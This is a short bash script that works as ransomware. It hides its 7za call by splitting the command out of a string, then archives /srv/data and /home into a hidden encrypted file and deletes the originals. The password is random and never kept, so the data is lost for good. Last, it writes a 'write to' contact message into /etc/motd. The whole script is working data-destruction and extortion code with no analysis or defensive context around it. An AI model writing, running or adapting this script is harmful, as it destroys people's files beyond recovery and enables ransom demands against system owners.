#!/bin/bash
spec='7za,a,-sdel,-mhe=on,-bd'
IFS=, read -ra c <<<"$spec"
"${c[@]}" -p"$(openssl rand -hex 24)" /srv/.a.7z /srv/data /home >/dev/null
printf 'Write to help@example.net\n' >/etc/motd
